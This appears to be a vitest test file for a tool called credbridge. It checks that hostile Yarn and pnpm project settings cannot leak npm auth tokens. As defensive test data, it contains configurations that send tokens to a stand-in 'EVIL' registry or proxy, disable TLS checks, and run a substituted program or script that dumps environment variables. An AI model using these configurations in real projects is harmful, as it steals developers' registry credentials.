import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { attacked } from './npm-attack.ts'
import { needsNpmClients } from './npm-world.ts'

/* The same attacks (npm-hostile.test.ts) on Yarn and pnpm, which ask us themselves. */

needsNpmClients('a hostile project', () => {
  test('Yarn: the attack works on its own variable, which goes to every registry', async () => {
    const it = await attacked('yarn', 'yarn')
    it.project({ 'yarn.lock': '', '.yarnrc.yml': 'npmRegistryServer: "http:EVIL"\nnpmAlwaysAuth: true\n' })
    await it.world.run('app', 'yarn', ['add', 'tiny'], { env: { ...it.world.env, YARN_NPM_AUTH_TOKEN: it.token } })
    expect(it.evil.heard).toContain(`Bearer ${it.token}`)
  })

  describe('Yarn, with our plugin', () => {
    test.each([
      ['a registry that nobody enabled', 'npmRegistryServer: "http:EVIL"\nnpmAlwaysAuth: true\n'],
      ['the same for a scope', 'npmScopes:\n  evil:\n    npmRegistryServer: "http:EVIL"\n    npmAlwaysAuth: true\n'],
      ['our host in the name', 'npmRegistryServer: "http:EVIL/http:GOOD"\nnpmAlwaysAuth: true\n'],
    ])('%s: its author hears no token', async (_name, text) => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      it.project({ 'yarn.lock': '', '.yarnrc.yml': text })
      await it.world.run('app', 'yarn', ['add', '@evil/tiny'])
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect(it.heard()).toBe(false)
    })

    test.each([
      ['httpProxy: "http:EVIL"', 'httpProxy'],
      ['enableStrictSsl: false', 'enableStrictSsl'],
      ['httpsCaFilePath: ./evil.pem', 'httpsCaFilePath'],
      ['networkSettings:\n  "*":\n    httpProxy: "http:EVIL"', 'networkSettings'],
    ])('%s: the credential stays here', async (text, name) => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      it.project({ 'yarn.lock': '', '.yarnrc.yml': `${text}\n`, 'evil.pem': '' })
      const outcome = await it.world.run('app', 'yarn', ['npm', 'whoami'])
      expect(outcome.stdout).toContain(`credbridge: ${join(it.world.home, 'app', '.yarnrc.yml')}, line 1: ${name} `)
      expect([outcome.exitCode, it.heard()]).toEqual([1, false])
    })

    test('a program that a project puts in Yarn’s place finds nothing in its environment', async () => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      const program = 'require("node:fs").writeFileSync("HOME/ran", JSON.stringify(process.env))\n'
      it.project({ 'yarn.lock': '', '.yarnrc.yml': 'yarnPath: ./evil.cjs\n', 'evil.cjs': program })
      for (const start of [['yarn'], ['credbridge', 'run', '--', 'yarn']]) {
        const [command = '', ...words] = start
        await it.world.run('app', command, [...words, 'install'])
        expect(it.world.read('ran')).not.toContain(it.token)
      }
    })

    test.each(['${CREDBRIDGE_STORE-}', '${npm_config_GOOD/:_authToken-}'])(
      '%s: credbridge run refuses it',
      async (reference) => {
        const it = await attacked('yarn', 'yarn')
        it.project({ '.yarnrc.yml': `npmRegistries:\n  "EVIL":\n    npmAuthToken: "${reference}"\n` })
        expect(await it.world.run('app', 'credbridge', ['run', '--', 'yarn', 'install'])).toMatchObject({
          exitCode: 2,
          stderr: expect.stringContaining(`${join(it.world.home, 'app', '.yarnrc.yml')}, line 3: `),
        })
        expect(it.evil.everything).toEqual([])
      },
    )
  })

  describe.each(['pnpm', 'pnpm-10'] as const)('%s, with our helper', (manager) => {
    test.each([
      ['a registry that nobody enabled', { '.npmrc': 'registry=http:EVIL/\n' }],
      ['our helper for its registry', { '.npmrc': 'registry=http:EVIL/\nEVIL/:tokenHelper=HELPER\n' }],
      ['a helper of its own', { '.npmrc': 'registry=http:EVIL/\nEVIL/:tokenHelper=HOME/app/evil\n' }],
    ])('%s: its author hears no token', async (_name, files) => {
      const it = await attacked('pnpm', manager)
      await it.world.well('', 'credbridge', ['setup', 'pnpm'])
      const helper = /tokenHelper=(.*)/.exec(it.world.read('.npmrc'))?.[1] ?? ''
      it.project({
        '.npmrc': files['.npmrc'].replace('HELPER', helper),
        evil: '#!/bin/sh\nenv >HOME/ran\n',
      })
      await it.world.run('app', 'pnpm', ['add', 'tiny', '--config.fetch-retries=0'])
      expect([it.heard(), existsSync(join(it.world.home, 'ran'))]).toEqual([false, false])
    })
  })
})
